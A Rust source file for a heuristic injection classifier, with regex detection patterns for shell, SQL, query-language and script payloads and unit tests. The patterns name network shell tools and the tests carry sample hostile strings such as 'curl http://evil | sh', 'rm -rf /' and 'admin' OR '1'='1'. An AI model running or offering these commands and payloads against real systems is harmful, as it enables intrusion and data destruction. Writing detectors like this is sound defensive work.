//! Heuristic classifier for text that looks like an injection attempt.
//!
//! Six independent checks run over the input; any one firing marks the text
//! as probably malicious. Completeness is not a goal: the classifier catches
//! the obvious shapes of query, shell, SQL and script payloads.

use std::collections::HashSet;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::{Regex, RegexSet};
use serde::Serialize;

/// Keywords that are suspicious on their own (case-insensitive substring).
pub const DANGEROUS_WRITE_KEYWORDS: &[&str] = &["delete", "detach", "drop", "truncate"];

/// Query-language keywords. One alone is tolerated as natural language; two
/// or more distinct ones look like composed query syntax.
pub const QUERY_KEYWORDS: &[&str] = &[
    "match", "merge", "create", "return", "where", "unwind", "yield", "call", "set", "optional",
    "foreach", "select", "insert", "update", "union", "values",
];

/// Minimum number of distinct [`QUERY_KEYWORDS`] that triggers the query check.
pub const QUERY_KEYWORD_THRESHOLD: usize = 2;

/// Characters counted by the punctuation-density check.
pub const SPECIAL_CHARACTERS: &str = ";'\"`{}[]()<>|&$=*\\/%#^~";

/// Punctuation density above which text is treated as a payload.
pub const SPECIAL_CHARACTER_RATIO: f64 = 0.3;

static DANGEROUS_MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(DANGEROUS_WRITE_KEYWORDS)
        .expect("dangerous keyword table")
});

static QUERY_KEYWORD_REGEX: LazyLock<Regex> = LazyLock::new(|| {
    let alternation = QUERY_KEYWORDS.join("|");
    Regex::new(&format!(r"(?i)\b({alternation})\b")).expect("query keyword regex")
});

static SHELL_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"(?i)\brm\s+-[a-z]*[rf]",
        r"(?i)\b(?:curl|wget|chmod|chown|sudo|bash|zsh|nc|ncat|netcat|powershell|mkfifo|nohup|crontab)\b",
        r"(?i)/bin/(?:ba)?sh\b",
        r"\$\([^)]*\)",
    ])
    .expect("shell pattern set")
});

static SQL_INJECTION_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r#"(?i)['"]\s*or\s+['"]?\w*['"]?\s*=\s*['"]?\w*"#,
        r"(?i)\bor\s+1\s*=\s*1\b",
        r"(?i)\bunion\s+(?:all\s+)?select\b",
        r"(?i)\bdrop\s+(?:table|database)\b",
        r"(?i)\binsert\s+into\b",
        r"(?i)\bdelete\s+from\b",
        r"(?i);\s*(?:shutdown|exec)\b",
        r"(?i)\bxp_cmdshell\b",
    ])
    .expect("sql injection pattern set")
});

static INJECTION_SHAPE_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r#"['"`;]{2,}"#,
        r#"['"]\s*\d+\s*['"]?\s*=\s*['"]?\s*\d+"#,
        r"(?i)<\s*/?\s*script\b",
        r"(?i)javascript\s*:",
        r"(?i)\beval\s*\(",
        r"(?i)\b(?:settimeout|setinterval)\s*\(",
        r"(?i)\bon(?:load|error|click|mouseover)\s*=",
    ])
    .expect("injection shape pattern set")
});

/// One of the independent heuristic checks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatCheck {
    DangerousKeyword,
    QueryKeywords,
    ShellCommand,
    SqlInjection,
    SpecialCharacterRatio,
    InjectionShape,
}

impl ThreatCheck {
    pub const ALL: [ThreatCheck; 6] = [
        ThreatCheck::DangerousKeyword,
        ThreatCheck::QueryKeywords,
        ThreatCheck::ShellCommand,
        ThreatCheck::SqlInjection,
        ThreatCheck::SpecialCharacterRatio,
        ThreatCheck::InjectionShape,
    ];

    /// Checks that need injected syntax rather than a single word. Ordinary
    /// names ("Dropbox", "Truncated Octahedron") never fire these.
    pub const STRUCTURAL: [ThreatCheck; 2] =
        [ThreatCheck::SqlInjection, ThreatCheck::InjectionShape];

    /// Run this check against `text`.
    pub fn fires(self, text: &str) -> bool {
        match self {
            ThreatCheck::DangerousKeyword => DANGEROUS_MATCHER.is_match(text),
            ThreatCheck::QueryKeywords => {
                distinct_query_keywords(text, QUERY_KEYWORD_THRESHOLD) >= QUERY_KEYWORD_THRESHOLD
            }
            ThreatCheck::ShellCommand => SHELL_PATTERNS.is_match(text),
            ThreatCheck::SqlInjection => SQL_INJECTION_PATTERNS.is_match(text),
            ThreatCheck::SpecialCharacterRatio => special_character_ratio(text) > SPECIAL_CHARACTER_RATIO,
            ThreatCheck::InjectionShape => INJECTION_SHAPE_PATTERNS.is_match(text),
        }
    }
}

/// Every check that fired for a piece of text.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ThreatReport {
    pub checks: Vec<ThreatCheck>,
}

impl ThreatReport {
    pub fn is_malicious(&self) -> bool {
        !self.checks.is_empty()
    }
}

/// Classify `text`. Short-circuits on the first check that fires.
pub fn is_probably_malicious(text: &str) -> bool {
    ThreatCheck::ALL.iter().any(|check| check.fires(text))
}

/// Whether `text` carries injection syntax, judged by the
/// [`ThreatCheck::STRUCTURAL`] checks only. Used for identifiers, where the
/// word-level checks would reject legitimate names.
pub fn is_injection_shaped(text: &str) -> bool {
    ThreatCheck::STRUCTURAL.iter().any(|check| check.fires(text))
}

/// Same as [`is_probably_malicious`] for loosely typed input: non-strings are
/// never malicious.
pub fn is_probably_malicious_value(value: &serde_json::Value) -> bool {
    match value {
        serde_json::Value::String(s) => is_probably_malicious(s),
        _ => false,
    }
}

/// Run all checks and report which fired.
pub fn assess(text: &str) -> ThreatReport {
    ThreatReport {
        checks: ThreatCheck::ALL
            .into_iter()
            .filter(|check| check.fires(text))
            .collect(),
    }
}

/// Count distinct query keywords, stopping once `limit` is reached.
fn distinct_query_keywords(text: &str, limit: usize) -> usize {
    let mut seen = HashSet::new();
    for m in QUERY_KEYWORD_REGEX.find_iter(text) {
        seen.insert(m.as_str().to_ascii_lowercase());
        if seen.len() >= limit {
            break;
        }
    }
    seen.len()
}

fn special_character_ratio(text: &str) -> f64 {
    let (special, total) = text.chars().fold((0usize, 0usize), |(special, total), c| {
        (special + usize::from(SPECIAL_CHARACTERS.contains(c)), total + 1)
    });
    if total == 0 {
        return 0.0;
    }
    special as f64 / total as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn composed_query_is_malicious() {
        assert!(is_probably_malicious("MATCH (n) DELETE n; DROP TABLE users;"));
    }

    #[test]
    fn ordinary_question_is_benign() {
        assert!(!is_probably_malicious("Who founded Microsoft?"));
        assert!(!is_probably_malicious(
            "Grace Hopper worked on the Harvard Mark I computer in 1944."
        ));
        assert!(!is_probably_malicious(""));
    }

    #[test]
    fn names_are_not_injection_shaped() {
        for name in ["Dropbox", "Airdrop Inc", "Truncated Octahedron", "Match Group"] {
            assert!(!is_injection_shaped(name), "{name}");
        }
        assert!(is_probably_malicious("Dropbox"));
        assert!(is_injection_shaped("x' OR '1'='1"));
        assert!(is_injection_shaped("<script>alert(1)</script>"));
    }

    #[test]
    fn single_query_keyword_is_tolerated() {
        let text = "The match was rained out.";
        assert!(!ThreatCheck::QueryKeywords.fires(text));
        assert!(!is_probably_malicious(text));
    }

    #[test]
    fn two_distinct_query_keywords_fire() {
        assert!(ThreatCheck::QueryKeywords.fires("match (p) return p"));
        // Repeating one keyword does not count twice.
        assert!(!ThreatCheck::QueryKeywords.fires("match match match"));
        // Substrings inside longer words do not count.
        assert!(!ThreatCheck::QueryKeywords.fires("rematch settled"));
    }

    #[test]
    fn dangerous_keyword_is_case_insensitive_substring() {
        assert!(ThreatCheck::DangerousKeyword.fires("please DeLeTe everything"));
        assert!(ThreatCheck::DangerousKeyword.fires("airdropped"));
    }

    #[test]
    fn shell_commands_need_word_boundaries() {
        assert!(ThreatCheck::ShellCommand.fires("curl http://evil | sh"));
        assert!(ThreatCheck::ShellCommand.fires("then rm -rf / quickly"));
        assert!(ThreatCheck::ShellCommand.fires("echo $(whoami)"));
        assert!(!ThreatCheck::ShellCommand.fires("the sudoku puzzle"));
    }

    #[test]
    fn sql_injection_shapes() {
        assert!(ThreatCheck::SqlInjection.fires("admin' OR '1'='1"));
        assert!(ThreatCheck::SqlInjection.fires("x or 1=1"));
        assert!(ThreatCheck::SqlInjection.fires("1 UNION ALL SELECT password"));
        assert!(!ThreatCheck::SqlInjection.fires("a union of states"));
    }

    #[test]
    fn punctuation_density() {
        assert!(ThreatCheck::SpecialCharacterRatio.fires("{{$}}();"));
        assert!(!ThreatCheck::SpecialCharacterRatio.fires("a (short) aside"));
    }

    #[test]
    fn injection_shapes() {
        assert!(ThreatCheck::InjectionShape.fires("name'';"));
        assert!(ThreatCheck::InjectionShape.fires("'1' = '1"));
        assert!(ThreatCheck::InjectionShape.fires("< script src=x>"));
        assert!(ThreatCheck::InjectionShape.fires("JavaScript :void(0)"));
        assert!(ThreatCheck::InjectionShape.fires("setTimeout (tick, 10)"));
    }

    #[test]
    fn assess_lists_every_fired_check() {
        let report = assess("MATCH (n) DELETE n; DROP TABLE users;");
        assert!(report.is_malicious());
        assert!(report.checks.contains(&ThreatCheck::DangerousKeyword));
        assert!(report.checks.contains(&ThreatCheck::SqlInjection));

        assert_eq!(assess("Who founded Microsoft?"), ThreatReport::default());
    }

    #[test]
    fn result_matches_full_assessment() {
        for text in ["x or 1=1", "hello", "wget it", "{}{}{}", "MATCH (a) RETURN a"] {
            assert_eq!(is_probably_malicious(text), assess(text).is_malicious());
        }
    }

    #[test]
    fn non_text_values_are_never_malicious() {
        assert!(!is_probably_malicious_value(&json!(1)));
        assert!(!is_probably_malicious_value(&json!(null)));
        assert!(!is_probably_malicious_value(&json!(["DROP TABLE x"])));
        assert!(is_probably_malicious_value(&json!("DROP TABLE x")));
    }
}
